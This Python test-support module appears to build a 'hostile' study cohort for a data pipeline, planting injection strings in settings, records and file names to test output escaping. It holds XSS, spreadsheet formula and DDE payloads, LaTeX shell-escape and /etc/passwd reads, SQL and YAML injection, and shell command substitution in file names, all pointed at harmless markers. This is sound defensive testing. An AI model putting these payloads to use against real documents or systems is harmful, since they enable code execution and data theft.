"""A cohort in which every text that a study writes or records hold is hostile: markup, scripts, formulas, LaTeX, fields, controls, and very long.

It is the example of config/ips_programme.yaml, so that every stage has texts: ids, labels, levels, names, titles, agencies, schemes, prices,
themes, quotes, steps, reasons, file names. Each planted text ends with the text in whose place it stands.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from itertools import cycle
from pathlib import Path
from typing import Any

import pandas as pd
import pyreadstat
import yaml

from tests.support.shipped import ROOT

NOWHERE = "http://127.0.0.1:9"
"""What nobody listens at: a program that asks for it is seen to do so."""
MARKS: tuple[Callable[[str], str], ...] = (
    lambda t: f"<script>window.ran=1;alert(1)</script>{t}",
    lambda t: f'=HYPERLINK("{NOWHERE}/?"&A1,"{t}")',
    lambda t: f"\"'><img src={NOWHERE}/x.png onerror=window.ran=2> {t}",
    lambda t: f'=1+1&"{t}"',
    lambda t: f"\\input{{/etc/passwd}}\\immediate\\write18{{touch planted}} {t}",
    lambda t: f"</style></title></textarea></svg><svg/onload=window.ran=3>{t}",
    lambda t: f"+1+cmd|'/C calc'!A0 {t}",
    lambda t: f"[{t}](javascript:window.ran=4) ![x]({NOWHERE}/y.png) <{NOWHERE}> `c` __b__ # h",
    lambda t: f"@SUM(1,1) {t}",
    lambda t: f"]]><![CDATA[<!-- &amp;&lt;&#0; -->{t}",
    lambda t: f"-2+3+{t!r}",
    lambda t: f"$x^2_1$ 50% & # ~ {{}} \\end{{document}} {t}",
    lambda t: f'=WEBSERVICE("{NOWHERE}/{t}")',
    lambda t: f"{{0}} {{n}} {{{{ settings }}}} %s %(a)d {{% raw %}} {t}",
    lambda t: f"javascript:window.ran=5//{t}",
    lambda t: f"a: &b *b !!python/object - {t}",
    lambda t: f'"quoted", ""twice""; {t}',
    lambda t: f"| cell | --- | {t}",
    lambda t: f"1. {t}",
    lambda t: f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" INCLUDETEXT {t}',
    lambda t: f"{t} " + "long" * 60 + " words" * 40,
    lambda t: f"Ж ω 漢字 😀 e\u0301 {t}",
    lambda t: f"_x003D_1+1 _x0000_ {t}",
    lambda t: f"\uff1d1+1 {t}",
    lambda t: f"`{t}`); system('touch planted'); `",
)
"""Ways to make a hostile text of a plain one; each holds it."""
CONTROLS: tuple[Callable[[str], str], ...] = (
    lambda t: f"\x07\x1b[31m{t}\x1b]0;title\x07",
    lambda t: f"\u202e{t}",
    lambda t: f"\u2066{t} \u200f",
    lambda t: f"\x0b\x0c{t}\x85\u2028",
    lambda t: f"\ufffe{t}",
    lambda t: f"\t=1+1 {t}",
    lambda t: f"\r=1+1 {t}",
    lambda t: f"two\nlines {t}",
)
"""What XML can't hold, what a terminal acts on, what turns writing around, and ends of lines: in records only, as settings refuse them."""
TEXTS = {
    *[
        "title",
        "question",
        "description",
        "label",
        "unit",
        "proxy_for",
        "limitation",
        "says",
        "assumption",
        "definition",
        "how",
        "citation",
        "source",
        "about",
    ],
    "read_as",
    "consent",
    "currency",
}
"""Keys of settings whose texts are shown and compared with nothing."""
NAMES = (
    "variable",
    "payer",
    "beside",
    "pays",
    "receives",
    "savers",
    "invested",
    "losses_borne_by",
    "confounders",
    "exposure",
    "regression",
)
"""Keys whose texts name another key."""
LEVELS = ["low or medium", "high", "disability benefits", "social assistance", "no benefits", "municipality", "UWV", "female", "male"]
LEVELS += ["first half", "second half", "Municipality, from 2015"]
GROUPS = ["mental health agency", "social security institute", "municipality", "health insurer"]


RENAMED = {
    "education": "education`); system('touch planted'); (`",
    "worked_past_5_years": '=HYPERLINK("http://127.0.0.1:9/","x")',
    "experience": "<img src=x onerror=window.ran=6>",
    "municipality_2014": "'; DROP TABLE x; --",
    "training": "{0} {n} [x](javascript:1)",
}
"""Names that the settings choose -> hostile ones."""


class Planted:
    """A cohort's settings and files with hostile texts, and all of them in a list.

    Attributes
    ----------
    folder : Path
    config : Path
        The settings file.
    texts : list of str
        What was planted in settings and levels.
    ids : dict
        Plain id -> hostile id.
    """

    def __init__(self, folder: Path):
        self.folder, self.texts, self._marks, self._recorded = folder, [], cycle(MARKS), cycle((*CONTROLS, *MARKS))
        folder.mkdir(parents=True, exist_ok=True)
        self.known: dict[str, str] = {}
        self.ids: dict[str, str] = {}
        self.config = folder / "hostile.yaml"
        values = yaml.safe_load((ROOT / "config" / "ips_programme.yaml").read_text(encoding="utf-8"))
        self._files(values)
        self.values = self._settings(values)
        self.write()

    def write(self) -> None:
        """Write the settings as they are now."""
        self.config.write_text(json.dumps(self.values, indent=1, default=str), encoding="utf-8")

    def hostile(self, text: str) -> str:
        """One hostile form for a text, the same each time: for what is compared."""
        if text not in self.known:
            self.known[text] = self.planted(text)
        return self.known[text]

    def planted(self, text: str) -> str:
        """The next hostile form of a text."""
        made = next(self._marks)(text)
        self.texts.append(made)
        return made

    def recorded(self, text: str) -> str:
        """The same for what stands in records alone."""
        if text not in self.known:
            self.known[text] = next(self._recorded)(text)
        return self.known[text]

    def id(self, text: str) -> str:
        """A hostile id, the same each time."""
        plain = text.strip()
        if plain not in self.ids:
            self.ids[plain] = next(self._recorded)(plain)
        return self.ids[plain]

    def _files(self, values: dict[str, Any]) -> None:
        """Files of records with hostile ids, levels, names and words, under names that a shell or a page would stumble over."""
        data = ROOT / "data" / "ips_mis"
        places = values["ingest"]["participants"], values["ingest"]["jobs"]["specialists"], values["ingest"]["jobs"]["interviews"]
        people, _ = pyreadstat.read_sav(data / "participants.sav")
        people["id"] = people["id"].map(self.id)
        people["agency"] = people["agency"].map({1.0: self.recorded("agency A"), 2.0: self.recorded("agency B")})
        places[0]["file"] = self._save(people, "=1+1 people's & $(touch planted) %s;`touch planted`.csv")
        spells = pd.read_csv(data / "specialists.csv", sep=";", dtype="string", encoding="utf-8-sig", keep_default_na=False)
        spells["client"] = spells["client"].map(self.id)
        places[1]["file"] = self._save(spells, "[x](javascript:1) é Ж.csv", sep=";")
        told, _ = pyreadstat.read_sav(data / "interviews.sav")
        told["id"] = told["id"].map(self.id)
        places[2]["file"] = self._save(told, "#.csv")
        programme, themes = values["programme"], values["themes"]
        self._copy(programme["fidelity"], {"agency": self.recorded})
        self._copy(programme["funding"], {"id": self.id})
        segments = themes["segments"]
        self._copy(segments, {"stakeholder": self.hostile, "interviewee": self.id, "segment": self.id, "text": self.recorded})
        self._copy(themes["interviewees"], {"stakeholder": self.hostile, "interviewee": self.id})
        for paper in themes["papers"].values():
            self._copy(paper, {"theme": self.recorded, "subtheme": self.recorded, "statement": self.recorded})
        self._copy(themes["roadmap"], {"region": self.recorded, "who": self.recorded, "agreement": self.recorded})

    def _save(self, frame: pd.DataFrame, name: str, **options: Any) -> str:
        frame.to_csv(self.folder / name, index=False, quoting=csv.QUOTE_ALL, **options)
        return name

    def _copy(self, place: dict[str, Any], changed: dict[str, Callable[[str], str]]) -> None:
        """A file of the programme or of themes with columns changed."""
        source = (ROOT / "config" / place["file"]).resolve()
        lines = source.read_text(encoding="utf-8-sig").splitlines(keepends=True)[place.get("header_row", 1) - 1 :]
        frame = pd.read_csv(io.StringIO("".join(lines)), dtype="string", keep_default_na=False)
        for name, change in changed.items():
            frame[name] = [change(text) if text else text for text in frame[name]]
        place.pop("header_row", None)
        place["file"] = self._save(frame, source.name)

    def _settings(self, values: dict[str, Any]) -> dict[str, Any]:
        """The settings with hostile texts: what is shown, levels and groups wherever they are named."""
        values["ingest"]["participants"]["variables"]["sex"]["codes"] = {"1": "female", "2": "male"}
        values["themes"]["quotes"] = {"text": "text", "consent": "x"}
        values["themes"]["groups"] = GROUPS
        values["programme"]["fidelity"].pop("header_row", None)
        said = self._walk(values)
        said["cohort"] = "hostile"
        return said

    def _walk(self, value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            texts = key in ("stakeholders", "subthemes", "steps")
            return {
                (self.known.get(name, name) if key == "levels" else RENAMED.get(name, name)): self.hostile(item)
                if isinstance(item, str) and (texts or name in TEXTS)
                else self._walk(item, str(name))
                for name, item in value.items()
            }
        if isinstance(value, list):
            return [{True: "yes", False: "no"}[item] if isinstance(item, bool) else self._walk(item, key) for item in value]
        if key != "column" and value in RENAMED:
            return RENAMED[value]
        named = isinstance(value, str) and (value in self.known or value in LEVELS) and key not in NAMES
        return self.hostile(value) if named else value
